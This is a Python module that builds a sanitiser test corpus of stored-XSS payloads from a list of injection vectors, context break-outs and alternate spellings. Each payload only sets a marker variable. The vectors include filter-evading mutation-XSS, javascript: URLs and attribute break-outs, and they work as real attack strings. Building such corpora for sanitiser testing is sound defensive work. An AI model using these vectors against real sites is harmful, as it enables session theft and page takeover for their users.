"""A corpus of stored-XSS payloads, generated: vectors × context break-outs × spellings.

Each payload runs `top.__xss=N` (N its number) if it ever executes, so a test can tell which
one got through. The vectors cover the usual families: event-handler attributes on many
elements, script elements, javascript:/data: URLs, srcdoc and nested documents, SVG and
MathML (including mutation-XSS shapes that fool naive sanitisers), CSS, meta refresh, and
template-injection strings; the break-outs close the contexts a page might put text in
(attribute values, <title>, <textarea>, <script>, comments, CDATA).
"""

from __future__ import annotations

from collections.abc import Iterator

VECTORS = [
    '<img src=x onerror="{js}">',
    "<svg onload={js}>",
    "<svg><script>{js}</script></svg>",
    '<body onload="{js}">',
    '<iframe srcdoc="<script>{js}</script>"></iframe>',
    '<iframe src="javascript:{js}"></iframe>',
    '<a href="javascript:{js}" id=xss>link</a>',
    '<details open ontoggle="{js}">x</details>',
    '<input autofocus onfocus="{js}">',
    '<video><source onerror="{js}"></video>',
    '<audio src=x onerror="{js}"></audio>',
    '<math><mtext><table><mglyph><style><img src=x onerror="{js}">',
    '<svg></p><style><a id="</style><img src=1 onerror={js}>">',
    "<script>{js}</script>",
    '<script src="data:text/javascript,{js}"></script>',
    '<object data="javascript:{js}"></object>',
    '<embed src="javascript:{js}">',
    '<form action="javascript:{js}"><button id=xssbtn>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:{js}">',
    '<marquee onstart="{js}">x</marquee>',
    '<div style="animation:spin 1s" onanimationstart="{js}">x</div>',
    '<svg><animate onbegin="{js}" attributeName=x dur=1s>',
    '<noscript><p title="</noscript><img src=x onerror={js}>">',
    "<img src=x onerror=&#x74;&#x6f;&#x70;.__xss={n}>",
    '<a href="jav&#x09;ascript:{js}" id=xss2>tab</a>',
    '<svg><a xlink:href="javascript:{js}"><text x=20 y=20>x</text></a></svg>',
    '<select autofocus onfocus="{js}"></select>',
    '<textarea autofocus onfocus="{js}"></textarea>',
    '<keygen autofocus onfocus="{js}">',
    '<link rel=import href="data:text/html,<script>{js}</script>">',
    "{{{{constructor.constructor('{js}')()}}}}",
    "${{{js}}}",
    "<img src=`x` onerror={js}>",
    '<img """><script>{js}</script>">',
    '<IMG SRC=x ONERROR="{js}">',
    "<img/src=x/onerror={js}>",
    '" autofocus onfocus="{js}" x="',
    "' autofocus onfocus='{js}' x='",
    '" onmouseover="{js}" style="position:fixed;inset:0" x="',
    "</span><img src=x onerror={js}><span>",
    '<style>*{{background:url("javascript:{js}")}}</style>',
    '<base href="javascript:{js}//">',
]
BREAKOUTS = ["", '">', "'>", "</title>", "</textarea>", "</script>", "--!>", "]]>"]


def _spellings(payload: str) -> list[str]:
    """The payload, and the same with a newline and mixed case after its first tag name
    (filters that match `<img ` or lower case only miss it)."""
    if not payload.lstrip("\"'>/-]").startswith("<"):
        return [payload]
    head, space, rest = payload.partition(" ")
    return [payload, head.swapcase() + "\n" + rest] if space else [payload]


def payloads() -> Iterator[tuple[int, str]]:
    n = 0
    for vector in VECTORS:
        for prefix in BREAKOUTS:
            for spelling in _spellings(prefix + vector):
                n += 1
                yield n, spelling.format(js=f"top.__xss={n}", n=n)


CORPUS = list(payloads())
